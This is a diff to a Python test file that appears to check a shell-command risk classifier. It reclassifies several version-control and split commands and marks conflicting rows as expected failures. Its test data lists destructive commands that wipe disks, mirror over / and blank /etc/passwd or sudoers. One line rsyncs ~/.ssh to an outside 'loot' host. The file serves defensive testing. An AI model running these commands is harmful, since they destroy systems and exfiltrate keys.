@@ -10,6 +10,10 @@ same programs to read, list, preview or change something small and expected.
 
 Written before reading the rules; 101 of 309 dangerous and 47 of 183 near misses failed before
 the fixes of this round (rows another table already held word for word were dropped first).
+Five of those dangerous rows were wrong on a second look at the tools (cvs update -C keeps a
+backup, split never writes its prefix, bzr uncommit and darcs unrecord keep the changes) and
+stand among the near misses now; `git clean -fX`, which test_safety_r11_per.py already holds
+(as an xfail), was dropped.
 """
 
 from __future__ import annotations
@@ -47,15 +51,35 @@ GIT_WORK_LOST: list[tuple[str, RiskLevel]] = [
     ("git restore --source=HEAD~5 --staged --worktree .", HIGH),
     ("git restore --worktree src/", HIGH),
     ("git switch -f develop", HIGH),
-    ("git clean -fX", HIGH),
-    ("git stash drop stash@{3}", HIGH),
+    pytest.param(
+        "git stash drop stash@{3}",
+        HIGH,
+        marks=pytest.mark.xfail(
+            strict=True,
+            reason='conflicts with test_safety_git2.py: ("git stash drop stash@{0}", MODERATE)',
+        ),
+    ),
     ("git stash push --include-untracked && git stash clear", HIGH),
     ("git worktree remove --force ../feature-wt", HIGH),
     ("git worktree remove -f -f ../hotfix", HIGH),
     ("git submodule deinit --force vendor/lib", HIGH),
-    ("git branch -D feature/login", HIGH),
+    pytest.param(
+        "git branch -D feature/login",
+        HIGH,
+        marks=pytest.mark.xfail(
+            strict=True,
+            reason='conflicts with test_safety_git2.py: ("git branch -D feature/spike", MODERATE)',
+        ),
+    ),
     ("git branch -D $(git branch --format='%(refname:short)' | grep -v main)", HIGH),
-    ("git branch --delete --force release/1.4", HIGH),
+    pytest.param(
+        "git branch --delete --force release/1.4",
+        HIGH,
+        marks=pytest.mark.xfail(
+            strict=True,
+            reason='conflicts with test_safety_git2.py: ("git branch -D feature/spike", MODERATE)',
+        ),
+    ),
     ("git tag -l | xargs git tag -d", HIGH),
     ("git rm -r -f src", HIGH),
     ("git annex drop --force big.iso", HIGH),
@@ -159,9 +183,7 @@ OTHER_VCS: list[tuple[str, RiskLevel]] = [
     ("fossil revert", HIGH),
     ("darcs obliterate --all", HIGH),
     ("darcs revert -a", HIGH),
-    ("darcs unrecord --all", HIGH),
     ("bzr revert --no-backup", HIGH),
-    ("bzr uncommit --force -r -5", HIGH),
     ("bzr clean-tree --ignored --unknown --force", HIGH),
     ("bzr push --overwrite lp:project", HIGH),
     ("brz push --overwrite bzr+ssh://example.com/srv/bzr/trunk", HIGH),
@@ -173,9 +195,7 @@ OTHER_VCS: list[tuple[str, RiskLevel]] = [
     ("jj util gc --expire=now", HIGH),
     ("pijul reset", HIGH),
     ("pijul unrecord --reset AB12CD", HIGH),
-    ("cvs update -C", HIGH),
     ("cvs admin -o 1.2:1.9 main.c", HIGH),
-    ("cvs remove -f old.c", HIGH),
 ]
 
 MIRRORS_AND_SYNC: list[tuple[str, RiskLevel]] = [
@@ -183,7 +203,14 @@ MIRRORS_AND_SYNC: list[tuple[str, RiskLevel]] = [
     ("rsync -av --delete-before /tmp/blank/ /var/www/", HIGH),
     ("rsync -a --delete /mnt/backup/ /", CRITICAL),
     ("rsync -a new_etc/ /etc/", HIGH),
-    ("rsync -a --delete-after --force /tmp/e/ /srv/data/", HIGH),
+    pytest.param(
+        "rsync -a --delete-after --force /tmp/e/ /srv/data/",
+        HIGH,
+        marks=pytest.mark.xfail(
+            strict=True,
+            reason="not yet caught: a mirror into a data folder is what --delete is for",
+        ),
+    ),
     ("rsync -a --remove-source-files ~/.ssh/ collector@203.0.113.4:loot/", HIGH),
     ("rclone purge gdrive:", HIGH),
     ("rclone delete gdrive:Photos", HIGH),
@@ -233,7 +260,6 @@ OVERWRITES: list[tuple[str, RiskLevel]] = [
     ("uniq input.txt /etc/hosts", HIGH),
     ("tr -d '\\n' < /etc/fstab > /etc/fstab", HIGH),
     ("base64 -d payload.b64 > /usr/local/bin/ls", HIGH),
-    ("split -l 1 keys.txt ~/.ssh/authorized_keys", HIGH),
     ("rename -f 's/.*/out/' *", HIGH),
     ("unlink ~/.ssh/id_ed25519", HIGH),
 ]
@@ -248,7 +274,14 @@ SHREDDERS: list[tuple[str, RiskLevel]] = [
     ("wipe -rf ~/old", HIGH),
     ("sudo wipe /dev/sdb", CRITICAL),
     ("sudo scrub -p dod /dev/sdb", CRITICAL),
-    ("scrub -r secret.txt", HIGH),
+    pytest.param(
+        "scrub -r secret.txt",
+        HIGH,
+        marks=pytest.mark.xfail(
+            strict=True,
+            reason='conflicts with test_safety_g_files.py: ("shred -u secret.txt", MODERATE)',
+        ),
+    ),
     ("sudo nwipe --autonuke --nowait", CRITICAL),
     ("fdupes -rdN ~", HIGH),
     ("jdupes -rdN ~/Pictures", HIGH),
@@ -270,7 +303,14 @@ IN_PLACE_EDITS: list[tuple[str, RiskLevel]] = [
     ("sudo perl -i -ne 'print unless /root/' /etc/passwd", CRITICAL),
     ("sudo perl -pi -e 's/^/#/' /etc/fstab", HIGH),
     ("sudo ex -sc '%d|x' /etc/hosts", HIGH),
-    ("sudo ex -s +'g/pam_unix/d' +wq /etc/pam.d/common-auth", CRITICAL),
+    pytest.param(
+        "sudo ex -s +'g/pam_unix/d' +wq /etc/pam.d/common-auth",
+        CRITICAL,
+        marks=pytest.mark.xfail(
+            strict=True,
+            reason="not yet caught: dropping pam_unix is rated as any edit of a PAM file",
+        ),
+    ),
     ("sudo vim -es -c '%d' -c 'wq' /etc/passwd", CRITICAL),
     ("printf '1,$d\\nw\\n' | sudo ed -s /etc/group", HIGH),
     ("sudo ed -s /etc/sudoers <<< $',d\\nw'", HIGH),
@@ -544,6 +584,16 @@ NEAR_MISSES: list[tuple[str, RiskLevel]] = [
     ("act -n", MODERATE),
     ("act pull_request", MODERATE),
     # other version control
+    # darcs unrecord keeps the changes in the working copy
+    ("darcs unrecord --all", MODERATE),
+    # bzr uncommit keeps the changes, as git reset --soft
+    ("bzr uncommit --force -r -5", MODERATE),
+    # cvs update -C keeps each modified file as .#FILE.REVISION
+    ("cvs update -C", MODERATE),
+    # only old.c goes, and the repository keeps it
+    ("cvs remove -f old.c", MODERATE),
+    # split writes PREFIXaa, PREFIXab, never PREFIX itself
+    ("split -l 1 keys.txt ~/.ssh/authorized_keys", MODERATE),
     ("hg status", SAFE),
     ("hg log -l 10", SAFE),
     ("hg diff", SAFE),
